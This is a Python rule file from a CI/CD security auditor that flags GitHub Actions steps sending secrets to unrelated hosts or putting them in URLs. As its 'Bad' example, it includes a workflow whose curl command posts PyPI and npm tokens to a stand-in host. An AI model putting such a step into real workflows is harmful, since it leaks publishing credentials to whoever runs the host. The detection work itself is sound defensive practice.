"""A secret goes to a host that its name doesn't speak of, or stands in an address.

## Why it matters

A script that sends several secrets, or the key of one service, to the host of another hands them to whoever
runs that host. It is what malicious changes to workflows do. A secret in an address (`?key=…`) is written
into the logs of every proxy and server on the way: **medium**.

## How to fix

Send a service's key to that service only, in a header: `curl -H "Authorization: Bearer $KEY"`. Remove the
step if nobody knows what the host is, and replace every secret that it got.

## Bad

```yaml
name: notify
on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  notify:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "a=$PYPI_TOKEN&b=$NPM_TOKEN" https://stats.example.net/in
        env:
          PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
```

## Good

```yaml
name: notify
on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  notify:
    runs-on: ubuntu-latest
    steps:
      - run: 'curl -H "Authorization: Bearer $STATS_KEY" -d "state=ok" https://stats.example.net/in'
        env:
          STATS_KEY: ${{ secrets.STATS_KEY }}
```

## What this rule cannot see

Whose a host is: one secret in a body, whose name speaks of no service, is taken for meant. Programs other
than `curl`, `wget` and their like, and what an action sends.

## References

- https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information
- https://cwe.mitre.org/data/definitions/201.html
"""

from collections.abc import Iterator

from auditor.api import Confidence, Facts, Hit, LeakKind, Severity, Step, rule


@rule(
    Step,
    id="secret-sent-away",
    title="A secret is sent to a host that it is not for",
    severity=Severity.HIGH,
    cwe=201,
    owasp="CICD-SEC-6",
    boundary="secrets",
    since="0.2.0",
)
def check(step: Step, facts: Facts) -> Iterator[Hit]:
    """One hit an argument that a program sends."""
    for leak in facts.secret_leaks.of(step):
        if leak.kind not in (LeakKind.HOST, LeakKind.URL) or leak.is_token:
            continue
        yield Hit(
            message=f"{leak.said} goes to {leak.what}",
            at=leak.location,
            severity=Severity.HIGH if leak.kind is LeakKind.HOST else Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
            traces=(leak.trace(),),
        )
